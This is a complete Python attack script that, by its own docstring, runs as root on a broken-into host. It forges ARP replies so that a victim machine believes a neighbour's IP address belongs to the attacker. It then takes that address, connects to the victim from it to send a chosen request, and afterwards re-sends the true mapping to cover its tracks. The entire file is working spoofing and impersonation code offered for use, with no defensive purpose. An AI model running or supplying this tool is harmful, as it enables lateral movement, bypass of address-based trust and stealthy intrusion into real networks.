"""Runs as root on a host that was broken into: takes a neighbour's address and dials another neighbour with it.

Its arguments are the address to take, the address and port to dial, and a file with what to send (none: just listen).
It prints what came back, or nothing. What it told the neighbour is corrected in the end.
"""

from __future__ import annotations

import json
import socket
import subprocess
import sys
from contextlib import suppress
from pathlib import Path
from threading import Event, Thread
from time import monotonic, sleep

ARP, EVERY = 0x0806, 0.05
# A neighbour believes a new answer a second after the last one.
CORRECTIONS = 30
PATIENCE = 10


def bare(mac: str) -> bytes:
    """The bytes of a hardware address."""
    return bytes.fromhex(mac.replace(":", ""))


def mac_of(address: str, interface: str) -> str:
    """Look a neighbour's hardware address up; the kernel asks for it when the neighbour is dialled."""
    with suppress(OSError):
        socket.create_connection((address, 9), 0.5).close()
    listing = subprocess.check_output(["ip", "-json", "neighbour", "show", address, "dev", interface])
    return str(json.loads(listing)[0]["lladdr"])


def answer(address: str, mac: str, victim: str, victims_mac: str) -> bytes:
    """The frame that tells the victim whose an address is."""
    head = bare(victims_mac) + bare(mac) + ARP.to_bytes(2, "big") + bytes.fromhex("0001080006040002")
    return head + bare(mac) + socket.inet_aton(address) + bare(victims_mac) + socket.inet_aton(victim)


def talk(taken: str, victim: str, port: int, request: bytes) -> bytes:
    """Send a request from the taken address; the first try may come before the lie is believed."""
    end = monotonic() + PATIENCE
    while monotonic() < end:
        with suppress(OSError), socket.create_connection((victim, port), 1, (taken, 0)) as connection:
            connection.settimeout(5)
            connection.sendall(request)
            return connection.recv(4096)
    return b""


def main() -> None:
    """Lie, talk, and set it right."""
    taken, victim, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    request = Path(sys.argv[4]).read_bytes() if len(sys.argv) > 4 else b""
    (route,) = json.loads(subprocess.check_output(["ip", "-json", "route", "get", victim]))
    interface = route["dev"]
    own_mac = Path(f"/sys/class/net/{interface}/address").read_text().strip()
    victims_mac, true_mac = mac_of(victim, interface), mac_of(taken, interface)
    over = Event()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
        wire.bind((interface, ARP))

        def lie() -> None:
            while not over.wait(EVERY):
                wire.send(answer(taken, own_mac, victim, victims_mac))

        liar = Thread(target=lie)
        subprocess.run(["ip", "address", "add", f"{taken}/32", "dev", interface], check=True)
        try:
            liar.start()
            print(talk(taken, victim, port, request).decode(errors="replace"))
        finally:
            over.set()
            liar.join()
            subprocess.run(["ip", "address", "delete", f"{taken}/32", "dev", interface], check=True)
            for _ in range(CORRECTIONS):
                wire.send(answer(taken, true_mac, victim, victims_mac))
                sleep(EVERY)


main()
